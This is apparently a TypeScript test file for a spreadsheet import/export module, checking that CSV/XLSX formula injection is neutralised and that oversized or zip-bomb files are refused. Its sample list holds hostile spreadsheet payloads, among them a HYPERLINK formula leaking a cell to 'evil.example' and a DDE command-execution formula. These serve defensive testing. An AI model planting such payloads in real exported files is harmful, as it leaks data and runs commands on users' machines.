import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { xlsxBomb } from '../../test/support/xlsx-bomb.js';
import { AppError } from './errors.js';
import { IMPORT_LIMITS, neutraliseCell, readSheet, restoreCell, writeSheet } from './tabular.js';

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+852 9123 4567',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV formula injection', () => {
  it.each(DANGEROUS)('a cell %j is written with a leading quote, so no spreadsheet runs it', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  it.each(['陳大文', '91234567', "O'Brien", 'a=b', ''])('ordinary text %j is written as it is', (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  it('restoring undoes neutralising for every text, quotes included', () => {
    for (const value of [...DANGEROUS, "'=already quoted", "''+852", "'plain", "O'Brien", 'plain']) {
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    }
  });

  it('an exported CSV holds no cell a spreadsheet would run, and imports back to the same values', async () => {
    const rows = DANGEROUS.map((v, i) => [v, i]);
    const file = await writeSheet('csv', 'people', ['name', 'n'], rows);
    const cells = (parse(file, { bom: true }) as string[][]).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const back = await readSheet('csv', file, {});
    expect(back.rows.map((r) => r.cells.name)).toEqual(DANGEROUS.map((v) => v.trim()));
  });

  it('XLSX writes such text as text cells, never as formulas', async () => {
    const file = await writeSheet(
      'xlsx',
      'people',
      ['name'],
      DANGEROUS.map((v) => [v]),
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0] as ExcelJS.Worksheet;
    DANGEROUS.forEach((value, i) => {
      const cell = sheet.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed.
      expect(cell.value).toBe(value.replace(/\r/g, '\n'));
    });
  });
});

describe('import limits', () => {
  const small = { ...IMPORT_LIMITS, rows: 10, columns: 5, cells: 30 };
  const header = ['building', 'number', 'floor', 'area_m2'];
  const unitRows = (n: number) => Array.from({ length: n }, (_, i) => ['A座', `${i + 1}A`, i + 1, 50]);

  async function refusal(read: Promise<unknown>): Promise<AppError> {
    try {
      await read;
    } catch (err) {
      if (err instanceof AppError) return err;
      throw err;
    }
    throw new Error('not refused');
  }

  it.each(['csv', 'xlsx'] as const)('%s: as many rows as the limit are read; one more is refused naming the limit', async (format) => {
    const numbers = (n: number) => Array.from({ length: n }, (_, i) => [`${i + 1}A`]);
    expect((await readSheet(format, await writeSheet(format, 'units', ['number'], numbers(10)), {}, small)).rows).toHaveLength(10);
    const err = await refusal(readSheet(format, await writeSheet(format, 'units', ['number'], numbers(11)), {}, small));
    expect(err.code).toBe('import.too_large');
    expect(err.status).toBe(413);
    expect(err.details).toEqual({ field: 'contentBase64', limit: 'rows', max: 10 });
  });

  it.each(['csv', 'xlsx'] as const)('%s: too many columns or filled cells are refused naming the limit', async (format) => {
    const wide = await writeSheet(format, 'units', [...header, 'a', 'b'], [['A座', '1A', 1, 50, 'x', 'y']]);
    expect((await refusal(readSheet(format, wide, {}, small))).details.limit).toBe('columns');
    const many = await writeSheet(format, 'units', header, unitRows(8));
    expect((await refusal(readSheet(format, many, {}, small))).details.limit).toBe('cells');
  });

  it.each(['sharedStrings', 'sheet'] as const)(
    'an XLSX whose %s unpack to 400 MiB is refused at the 32 MiB limit without being unpacked, memory staying bounded',
    async (part) => {
      const bomb = await xlsxBomb({ megabytes: 400, part });
      expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
      const before = process.memoryUsage().rss;
      let peak = before;
      const sampler = setInterval(() => {
        peak = Math.max(peak, process.memoryUsage().rss);
      }, 5);
      try {
        const err = await refusal(readSheet('xlsx', bomb, {}));
        expect(err.code).toBe('import.too_large');
        expect(err.details).toEqual({ field: 'contentBase64', limit: 'uncompressedBytes', max: IMPORT_LIMITS.uncompressedBytes });
        expect(err.message).toContain('32 MiB');
      } finally {
        clearInterval(sampler);
      }
      peak = Math.max(peak, process.memoryUsage().rss);
      // At most the 32 MiB budget (and its inflater's working space) was ever unpacked.
      expect(peak - before).toBeLessThan(150 * 1024 * 1024);
    },
  );

  it('a CSV larger than the budget is refused before it is parsed', async () => {
    const err = await refusal(readSheet('csv', Buffer.alloc(2_000, 'a'), {}, { ...IMPORT_LIMITS, uncompressedBytes: 1_000 }));
    expect(err.details.limit).toBe('uncompressedBytes');
  });

  it('a file that is not a ZIP, or a truncated one, is unreadable, naming the field', async () => {
    const real = await writeSheet('xlsx', 'units', header, unitRows(2));
    for (const bad of [Buffer.from('not a zip'), real.subarray(0, real.length - 30), real.subarray(100)]) {
      const err = await refusal(readSheet('xlsx', bad, {}));
      expect(err.code).toBe('import.unreadable_file');
      expect(err.details.field).toBe('contentBase64');
    }
  });
});
